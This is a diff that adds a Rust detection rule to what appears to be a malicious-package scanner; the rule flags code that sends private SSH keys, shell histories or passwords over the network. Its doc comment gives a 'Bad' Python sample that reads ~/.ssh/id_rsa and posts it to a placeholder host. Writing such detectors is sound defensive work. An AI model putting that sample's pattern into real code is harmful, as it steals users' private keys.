@@ -1,0 +1,57 @@
+//! ## What it detects
+//!
+//! A private key, the history of a shell, or the passwords of a system, read and sent over the network, also by code that somebody has called.
+//!
+//! ## Why it is bad
+//!
+//! There are services that are told a token, and none that is told a private key: whoever has it is its owner.
+//!
+//! ## Innocent lookalikes
+//!
+//! Tools that register a machine send the public key, `id_rsa.pub`. Clients of SSH sign with the private one, and send the signature.
+//!
+//! ## Bad
+//!
+//! ```python x/__init__.py
+//! import os, requests
+//! def check(name):
+//!     key = open(os.path.expanduser('~/.ssh/id_rsa')).read()
+//!     requests.post('http://x.example.invalid', data={'n': name, 'k': key})
+//! ```
+//!
+//! ## Good
+//!
+//! ```python x/__init__.py
+//! import os, requests
+//! def register(name):
+//!     key = open(os.path.expanduser('~/.ssh/id_rsa.pub')).read()
+//!     requests.post('http://x.example.invalid', data={'n': name, 'k': key})
+//! ```
+
+use fondaco_python::Taint;
+use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity};
+
+use super::secret_exfiltration::{of, takes_path};
+use crate::sending::{sent, signs_in};
+use crate::{Hits, Package, Rule};
+
+pub(crate) const RULE: Rule = Rule {
+    id: RuleId::new("key-exfiltration"),
+    title: "sends private keys or histories",
+    severity: Severity::Critical,
+    confidence: Confidence::High,
+    behaviour: Some(Behaviour::Exfiltration),
+    weight: 2.2,
+    check,
+};
+
+fn check(package: &Package<'_>, hits: &mut Hits) {
+    for (unit, call) in package.calls() {
+        let is_key = |taint: Taint| taint.has(Taint::PRIVATE) && (taint.has(Taint::FILE) || takes_path(&call.callee));
+        let carries = sent(call).any(|(name, value)| !signs_in(name) && is_key(of(value)));
+        // Where the public half is spoken of, that may be what is sent.
+        if carries && !call.callee.contains(".recv") && !unit.text.contains(".pub") {
+            hits.call(unit, call, format!("{} of a private key or a history", call.callee));
+        }
+    }
+}
